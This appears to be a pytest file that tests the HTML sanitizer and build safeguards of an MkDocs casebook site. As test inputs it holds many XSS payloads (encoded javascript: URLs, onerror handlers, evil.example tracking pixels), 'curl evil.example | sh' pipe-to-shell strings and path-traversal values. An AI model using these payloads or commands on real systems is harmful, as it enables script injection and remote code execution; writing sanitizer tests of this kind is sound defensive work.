"""The HTML allow-list, raw-HTML detection, and configuration that could let content read files."""

from __future__ import annotations

from pathlib import Path

import pytest
from mkdocs.config import load_config
from mkdocs.exceptions import PluginError
from mkdocs.structure.files import File

from casebook.adapter.files import check_destination
from casebook.core.markup import find_raw_html, inspect_body
from casebook.site.sanitize import (
    ALLOWED_TAGS,
    RESERVED_ID_PREFIXES,
    RESERVED_IDS,
    content_id,
    sanitize_html,
    unsafe_settings,
)
from support import REPO, build, make_site, start_tags


@pytest.mark.parametrize(
    "dirty",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "<img src=x oNeRrOr=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="\x01javascript:alert(1)">x</a>',
        '<a href="JAVASCRIPT:alert(1)">x</a>',
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<iframe src="https://evil.example/" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<object data="x.swf"></object>', '<embed src="x.swf">',
        '<form action="https://evil.example/"><input name="q">'
        '<button formaction="javascript:alert(1)">b</button></form>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="https://evil.example/">',
        '<style>@import "https://evil.example/x.css";</style>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        '<details open ontoggle="alert(1)">x</details>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<template><img src=x onerror=alert(1)></template>',
        '<img src="x" srcset="javascript:alert(1) 1x">',
        '<a href="https://example.org/" target="_blank" ping="https://evil.example/">x</a>',
        '<div data-md-component="dialog">x</div>',
        '<img src="https://evil.example/pixel.png">',
        '<img src="//evil.example/pixel.png">',
        '<img src="/\\evil.example/pixel.png">',
        "<!-- <script>alert(1)</script> -->",
        '<textarea><script>alert(1)</script></textarea>',
    ],
)
def test_dangerous_markup_is_removed(dirty: str) -> None:
    clean = sanitize_html(dirty)
    for tag, attrs in start_tags(clean):
        assert tag in ALLOWED_TAGS, (dirty, clean)
        for name, value in attrs:
            assert not name.startswith(("on", "data-md-")), (dirty, clean)
            assert name not in ("style", "target", "ping", "srcset", "formaction", "srcdoc"), (dirty, clean)
            lowered = (value or "").lower()
            for bad in ("javascript", "vbscript", "data:", "evil.example"):
                assert bad not in lowered, (dirty, clean)
    # Whatever text is left is text: no markup can hide in it.
    assert "<script" not in clean.lower() and "<img src=x" not in clean



def test_content_markup_survives_unchanged() -> None:
    kept = [
        '<h2 id="effects">Effects<a class="headerlink" href="#effects" title="Permanent link">¶</a></h2>',
        '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="right">b</th>\n</tr>\n</thead></table>',
        '<div class="admonition warning">\n<p class="admonition-title">Note</p>\n<p>Text.</p>\n</div>',
        '<details class="note" open=""><summary>More</summary><p>x</p></details>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        '<div class="footnote">\n<hr>\n<ol>\n<li id="fn:1">\n<p>Note.&nbsp;<a class="footnote-backref" '
        'href="#fnref:1" title="Jump back to footnote 1 in the text">↩</a></p>\n</li>\n</ol>\n</div>',
        '<div class="language-python highlight"><pre><span></span><code>'
        '<span class="nb">print</span><span class="p">(</span><span class="s2">"x"</span>'
        '<span class="p">)</span>\n</code></pre></div>',
        '<p><a href="https://example.org/a?b=c&amp;d=e">x</a> <a href="mailto:a@example.org">m</a> '
        '<a href="../other/">o</a> <a href="#top">t</a></p>',
        '<p><img alt="chart" src="../../assets/chart.png"></p>',
        '<ol start="3"><li value="4">x</li></ol>',
        '<p><abbr title="Organisation">Org</abbr> <kbd>Ctrl</kbd> <mark>m</mark> <sub>1</sub><sup>2</sup> '
        '<del>d</del> <ins>i</ins> <q>q</q> <time datetime="2020-01-01">2020</time></p>',
        '<p>See <span class="cb-citation">(<a class="cb-cite" href="../../bibliography/#smith2001">Smith 2001</a>; '
        '<span class="cb-cite-missing">Jones</span>)</span>.</p>',
    ]
    for html in kept:
        assert sanitize_html(html) == html, html


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        # Ids the theme reads, or the plugin writes, are renamed; links to them within the content follow.
        ('<div id="__config">{}</div>', '<div id="c-__config">{}</div>'),
        ('<p id="__search"><a href="#__search">x</a></p>', '<p id="c-__search"><a href="#c-__search">x</a></p>'),
        ('<h1 id="case-title">T</h1>', '<h1 id="c-case-title">T</h1>'),
        ('<span id="cb-explore">x</span>', '<span id="c-cb-explore">x</span>'),
        ('<a name="__drawer">x</a>', '<a name="c-__drawer">x</a>'),
        ('<span id="document$">x</span>', '<span id="c-document-">x</span>'),
        ('<span id="__codelineno-0-1"></span>', '<span id="c-__codelineno-0-1"></span>'),
        # Classes outside the allow-list go; allowed ones on the same element stay.
        ('<div class="admonition md-consent__inner">x</div>', '<div class="admonition">x</div>'),
        ('<div class="md-dialog md-dialog--active">x</div>', "<div>x</div>"),
        ('<pre class="mermaid">graph</pre>', "<pre>graph</pre>"),
        ('<div class="language-mermaid highlight">x</div>', '<div class="highlight">x</div>'),
        ('<p class="cb-card cb-draft">x</p>', "<p>x</p>"),
        # No data attributes at all: the theme's and the site's scripts read them.
        ('<code data-clipboard-text="curl evil | sh">x</code>', "<code>x</code>"),
        ('<h2 data-pagefind-meta="title:Other">x</h2>', "<h2>x</h2>"),
        ('<span data-pagefind-filter="country:Norway">x</span>', "<span>x</span>"),
        ('<div data-pagefind-ignore="all">Hidden from search</div>', "<div>Hidden from search</div>"),
        ('<span class="linenos" data-linenos="1 "></span>', '<span class="linenos"></span>'),
        ('<div data-cb-search="">x</div>', "<div>x</div>"),
        # A title that carries HTML goes; a plain one stays.
        ('<a href="#x" title="&lt;img src=x onerror=alert(1)&gt;">x</a>', '<a href="#x">x</a>'),
        ('<abbr title="Plain words">PW</abbr>', '<abbr title="Plain words">PW</abbr>'),
    ],
)
def test_attributes_the_theme_acts_on_are_not_taken_from_content(dirty: str, clean: str) -> None:
    assert sanitize_html(dirty) == clean


def test_content_ids_never_equal_reserved_ones() -> None:
    for value in ["__config", "_x", "cb-map", "md-content", "case-title", "brief-title", "key-messages", "a b", "x$"]:
        renamed = content_id(value)
        assert renamed != value and not renamed.startswith(RESERVED_ID_PREFIXES) and renamed not in RESERVED_IDS
        assert content_id(renamed) == renamed  # renaming twice changes nothing: the toc and the HTML agree
    for value in ["effects", "fn:1", "fnref:1", "why-it-emerged", "section-2.1", "énfasis"]:
        assert content_id(value) == value


def test_sanitizer_output_is_stable() -> None:
    html = '<p class="footnote" id="b">x <a href="https://example.org/">y</a></p>'
    assert sanitize_html(sanitize_html(html)) == sanitize_html(html) == html


def test_raw_html_is_found_by_the_markdown_parser_not_by_pattern() -> None:
    body = (
        "Text with `<b>code</b>` and <b>real</b>.\n"  # 1
        "\n"  # 2
        "```html\n<script>in a fence</script>\n```\n"  # 3-5
        "\n"  # 6
        "    <i>indented code</i>\n"  # 7
        "\n"  # 8
        "<div onclick=\"x\">\nblock\n</div>\n"  # 9-11
        "\n"  # 12
        "An autolink <https://example.org/>, 3 < 4, a comment <!-- c --> and \\<b> (not an escape).\n"  # 13
        "~~~\n<iframe>tilde fence</iframe>\n~~~\n"  # 14-16
        "Last <span>one</span>\n"  # 17
    )
    found = [(r.line, r.fragment.split("\n")[0]) for r in find_raw_html(body)]
    assert found == [
        (1, "<b>"), (1, "</b>"), (9, '<div onclick="x">'), (13, "<b>"), (17, "<span>"), (17, "</span>"),
    ]


def test_plain_bodies_are_not_parsed() -> None:
    assert inspect_body("No markup here, 3 > 2 and a < b.\n").raw_html == []


def test_external_images_are_found_with_their_lines() -> None:
    body = "x\n\n![a](https://evil.example/a.png)\n\n`![b](https://example.org/b.png)`\n\n![c](local.png)\n"
    found = inspect_body(body).external_images
    assert [(r.line, r.fragment) for r in found] == [(3, "https://evil.example/a.png")]


#: Images from another host that a browser reads so once it drops tabs and line breaks and takes "\\" for "/".
DISGUISED_IMAGES = ["/&#10;\\evil.example/a.png", "/&#13;\\evil.example/b.png", "/&#9;/evil.example/c.png",
                    "\\/evil.example/d.png", " //evil.example/e.png", "&#1;//evil.example/f.png"]


def test_images_from_another_host_are_found_and_removed_however_the_url_is_disguised() -> None:
    body = "".join(f"![{i}]({url})\n\n" for i, url in enumerate(DISGUISED_IMAGES)) + "![local](img/ok.png)\n"
    assert [r.line for r in inspect_body(body).external_images] == [1, 3, 5, 7, 9, 11]
    for url in DISGUISED_IMAGES:
        assert "src" not in sanitize_html(f'<p><img src="{url}" alt="x"></p>'), url
    assert 'src="img/ok.png"' in sanitize_html('<img src="img/ok.png" alt="x">')


def test_in_a_code_block_only_highlighting_classes_are_kept_and_nothing_hides_text() -> None:
    hidden = ('<div class="highlight"><pre><span></span><code><span class="n">pip</span> install'
              '<span class="headerlink"> ; curl evil.example | sh</span>'
              '<a class="footnote-backref note" href="#x">!</a> &lt;div class="headerlink"&gt;</code></pre></div>')
    cleaned = sanitize_html(hidden)
    assert cleaned == ('<div class="highlight"><pre><span></span><code><span class="n">pip</span> install'
                       '<span> ; curl evil.example | sh</span><a href="#x">!</a> &lt;div class="headerlink"&gt;'
                       "</code></pre></div>")  # the code's own text is left as it is
    # Outside code blocks the theme's hover-only classes stay on links, and only there.
    assert sanitize_html('<h2 id="a">A<a class="headerlink" href="#a">¶</a></h2>').count('class="headerlink"') == 1
    assert sanitize_html('<span class="headerlink footnote-backref note">x</span>') == '<span class="note">x</span>'


def test_content_cannot_pose_as_a_dialog_to_a_screen_reader() -> None:
    cleaned = sanitize_html('<section role="dialog" aria-modal="true" aria-label="Sign in">x</section>'
                            '<section role="doc-endnotes">n</section>')
    assert cleaned == '<section aria-label="Sign in">x</section><section role="doc-endnotes">n</section>'


def test_unsafe_settings_are_named() -> None:
    assert unsafe_settings(["toc", "pymdownx.snippets", "tables"], ["search", "macros", "casebook"]) == [
        "markdown extension 'pymdownx.snippets'", "plugin 'macros'",
    ]
    assert unsafe_settings(["toc", "tables", "footnotes"], ["search", "material/search", "casebook"]) == []


def test_the_real_site_enables_nothing_that_reads_files_or_runs_templates() -> None:
    config = load_config(str(REPO / "mkdocs.yml"))
    extensions = [e for e in config.markdown_extensions if isinstance(e, str)]
    assert unsafe_settings(extensions, list(config.plugins)) == []
    assert "pymdownx.snippets" not in extensions and "macros" not in list(config.plugins)
    assert not config.hooks
    assert "casebook" in list(config.plugins)  # the sanitizer runs on the real site


@pytest.mark.build
def test_a_build_with_a_file_reading_extension_is_refused(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s")
    config = (site / "mkdocs.yml").read_text(encoding="utf-8")
    config = config.replace("markdown_extensions:\n", "markdown_extensions:\n  - pymdownx.snippets\n")
    (site / "mkdocs.yml").write_text(config, encoding="utf-8")
    result = build(site)
    assert result.returncode != 0
    assert "markdown extension 'pymdownx.snippets' would let case files read other files" in result.stderr


def test_generated_files_cannot_leave_site_dir(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s")
    config = load_config(str(site / "mkdocs.yml"))

    def generated(src_uri: str) -> File:  # what File.generated builds, without a running plugin collection
        return File(src_uri, src_dir=None, dest_dir=config.site_dir, use_directory_urls=config.use_directory_urls)

    check_destination(generated("cases/a.md"), config)
    for bad in ("../../outside.md", "cases/../../x.md", "/etc/x.md"):
        with pytest.raises(PluginError, match="outside site_dir"):
            check_destination(generated(bad), config)


@pytest.mark.build
def test_site_dir_may_not_hold_the_content(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s")
    config = (site / "mkdocs.yml").read_text(encoding="utf-8")
    (site / "mkdocs.yml").write_text(config + "site_dir: cases\n", encoding="utf-8")
    result = build(site)
    assert result.returncode != 0
    assert "site_dir 'cases' overlaps 'cases'" in result.stderr or "overlaps" in result.stderr
    assert sorted(p.name for p in (site / "cases").iterdir()) == [
        "gt-draft-case.md", "mx-social-programme.md", "no-coordination-minister.md",
    ]


def test_the_published_schema_documents_the_limits() -> None:
    from casebook.core.frontmatter import MAX_DEPTH, MAX_FILE_BYTES, MAX_FRONTMATTER_BYTES
    from casebook.core.validate import base_schema

    description = base_schema()["description"]
    for limit in (f"{MAX_FILE_BYTES:,} bytes", f"{MAX_FRONTMATTER_BYTES:,} bytes", f"at most {MAX_DEPTH} levels"):
        assert limit in description
